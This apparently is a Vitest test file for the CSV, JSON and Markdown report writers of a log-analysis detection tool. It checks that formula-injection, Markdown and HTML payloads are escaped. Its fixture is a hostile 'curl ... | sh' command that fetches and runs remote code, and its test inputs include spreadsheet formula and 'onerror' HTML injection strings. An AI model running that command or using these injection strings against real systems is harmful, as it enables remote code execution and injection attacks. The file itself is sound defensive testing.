import { describe, expect, test } from 'vitest'
import fc from 'fast-check'
import type { Finding, RunResult } from '../../../engine/worker/api.ts'
import { jsonText } from '../../../ui/format/cell.ts'
import { csvField, csvTable } from '../../../ui/format/csv.ts'
import { buildReport } from '../../../ui/report/build.ts'
import { csvReport } from '../../../ui/report/csv.ts'
import { REPORT_FORMATS, reportFileName, WRITERS } from '../../../ui/report/formats.ts'
import { jsonReport } from '../../../ui/report/json.ts'
import { markdownReport } from '../../../ui/report/markdown.ts'
import type { ReportModel } from '../../../ui/report/model.ts'
import { markdownBlock, markdownText } from '../../../ui/format/markdown.ts'

const TOOL = { version: '1.2.3', build: 'f00d'.repeat(16) }
const COMMAND = 'sh -c "curl http://203.0.113.7/x|sh"'

function report(change: Partial<Finding> = {}): ReportModel {
  const finding: Finding = {
    id: 'f1',
    row: [COMMAND, 2n ** 62n],
    keys: [{ name: 'process.command_line', value: COMMAND }],
    runs: [0],
    eventCount: 3,
    firstSeen: '2026-03-02T10:00:00.000Z',
    lastSeen: '2026-03-02T10:00:05.000Z',
    hosts: ['web-03'],
    users: ['www-data'],
    sources: [{ file: 0, line: 12, event: 12, byte: 4096, length: 700 }],
    truncated: true,
    droppedByKibana: true,
    thresholds: [{ column: 'n', operator: '<', limit: 5, value: 1, text: '1 of fewer than 5' }],
    ...change
  }
  const result: RunResult = {
    runKey: 'r1',
    ruleKey: 'k',
    mode: 'whole',
    columns: [
      { name: 'process.command_line', type: 'keyword' },
      { name: '=cmd', type: 'long' }
    ],
    findings: [finding],
    runs: [{ run: null, from: null, to: null, rows: 1, droppedByKibana: 0 }],
    runCount: 1,
    inputs: [{ name: 'a.ndjson', bytes: 9000, events: 40, skipped: [], skippedTotal: 0, notes: [] }],
    warnings: [],
    notes: [],
    stages: [],
    elapsedMillis: 5,
    cancelled: false
  }
  return buildReport({
    rule: { id: null, name: 'Shell | test', retired: null },
    result,
    rarity: new Map([['f1', { findingId: 'f1', n: 1, total: 1024, bits: 10, basis: 'x' }]]),
    tool: TOOL
  })
}

describe('csv', () => {
  test.each([
    ['=1+1', '"\'=1+1"'],
    ['+1', '"\'+1"'],
    ['-1', '"\'-1"'],
    ['@SUM(A1)', '"\'@SUM(A1)"'],
    ['\tx', '"\'\tx"'],
    ['\rx', '"\'\rx"'],
    ['＝1', '"\'＝1"'],
    ['＠x', '"\'＠x"'],
    ['  =1', '"\'  =1"'],
    ['a=1', 'a=1'],
    ['say "hi"', '"say ""hi"""']
  ])('%j becomes %j', (value, expected) => {
    expect(csvField(value)).toBe(expected)
  })

  test('numbers stay numbers, null is empty, several values are a JSON array', () => {
    expect([csvField(-5), csvField(-(2n ** 63n)), csvField(null), csvField(['a', 'b'])]).toEqual([
      '-5',
      '-9223372036854775808',
      '',
      '"[""a"",""b""]"'
    ])
  })

  test('headers are as safe as cells', () => {
    expect(csvTable(['=cmd', 'b'], [[1, 2]])).toBe('"\'=cmd",b\r\n1,2\r\n')
  })

  test('no field starts a formula, whatever the value', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (value) => {
        const field = csvField(value)
        const content = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field
        return !/^[\s]*[=+\-@＝＋－＠]/.test(content) && (content === value || content === `'${value}`)
      }),
      { seed: 7, numRuns: 500 }
    )
  })
})

describe('markdown', () => {
  test.each([
    ['a|b', 'a&#124;b'],
    ['`x`', '&#96;x&#96;'],
    ['[l](http://x)', '\\[l\\](http&#58;&#47;&#47;x)'],
    ['![i](x)', '!\\[i\\](x)'],
    ['<img onerror=1>', '&lt;img onerror=1&gt;'],
    ['a\nb', 'a⏎b'],
    ['&lt;', '&amp;lt;'],
    ['# h', '\\# h'],
    ['1. x', '1\\. x'],
    ['- x', '\\- x'],
    ['10.5 web-03', '10.5 web-03'],
    ['@team www.evil.test', '&#64;team www&#46;evil.test'],
    ['\u202eabc', '⟨RLO⟩abc']
  ])('%j becomes %j', (value, expected) => {
    expect(markdownText(value)).toBe(expected)
  })

  test('a block outlives backticks in the text', () => {
    expect(markdownBlock('a ```` b')).toBe('`````text\na ```` b\n`````')
  })
})

describe('findings', () => {
  test('csv: the query columns, then ours', () => {
    expect(csvReport(report())).toBe(
      'process.command_line,"\'=cmd",rarebit.events,rarebit.first_seen,rarebit.last_seen,rarebit.rarity_bits,rarebit.rarity_n,' +
        'rarebit.rarity_total,rarebit.thresholds,rarebit.dropped_by_kibana,rarebit.sources,rarebit.tool\r\n' +
        '"sh -c ""curl http://203.0.113.7/x|sh""",4611686018427387904,3,2026-03-02T10:00:00.000Z,2026-03-02T10:00:05.000Z,10,1,1024,' +
        `1 of fewer than 5,true,"a.ndjson:12; 2 more","Rarebit ${TOOL.version}, build ${TOOL.build}"\r\n`
    )
  })

  test('json keeps every digit and parses', () => {
    const text = jsonReport(report())
    expect(text).toContain('"value": 4611686018427387904')
    expect(JSON.parse(text).findings[0]).toMatchObject({ id: 'f1', eventCount: 3, rarity: { bits: 10 }, sourcesTruncated: true })
  })

  test('markdown: command in a block, values in a table', () => {
    const text = markdownReport(report())
    expect(text).toContain('# Shell &#124; test\n')
    expect(text).toContain('```text\nsh -c "curl http://203.0.113.7/x|sh"\n```')
    expect(text).toContain('| sources | a.ndjson&#58;12; 2 more |\n')
    expect(text).toContain('| rarity | 10.0 bits, 1 of 1024 loaded events (x) |\n')
  })

  test.each(REPORT_FORMATS)('%s names the version and the build that made it', (format) => {
    const text = WRITERS[format].write(report())
    expect(text).toContain(TOOL.version)
    expect(text).toContain(TOOL.build)
  })

  test('file names are plain', () => {
    expect(reportFileName('Shell | ../x', new Date(0), 'md')).toBe('rarebit-shell-x-1970-01-01-00-00.md')
  })
})

test('jsonText writes a __proto__ key and agrees with JSON.stringify', () => {
  const value = JSON.parse('{"__proto__":{"a":[1,"\\u2028",null,true]},"b":{}}') as unknown
  expect(jsonText(value)).toBe(JSON.stringify(value))
  expect(jsonText(value, 2)).toBe(JSON.stringify(value, null, 2))
})
